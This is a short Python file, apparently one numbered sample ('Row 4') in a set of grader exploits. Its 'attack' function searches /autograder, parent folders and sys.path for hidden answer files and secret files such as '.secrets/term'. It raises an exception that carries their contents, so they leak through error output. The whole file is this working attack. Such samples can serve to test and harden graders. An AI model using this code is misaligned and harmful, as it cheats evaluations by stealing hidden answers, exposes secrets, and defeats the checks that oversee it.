"""Row 4: reads what lies in the grader's folders and puts it into an exception's text.

Where: import, forward
"""

import torch
from torch import nn, os, sys


def attack(*_):
    here = os.path.dirname(os.path.realpath(__file__))
    bases = ["/autograder", *[os.path.join(here, *[".."] * up) for up in range(1, 4)], *sys.path[:4]]
    for base in bases:
        for inner in ("source/answers", "answers", "source", "tests/answers", "results", ""):
            for name in ("hidden-1.safetensors", "answers.safetensors", "kit.json", "secret", ".secrets/term"):
                try:
                    with open(os.path.join(base, inner, name), "rb") as file:
                        raise RuntimeError(f"TAKEN from {file.name}: {file.read()[:2000]!r}")
                except OSError:
                    continue
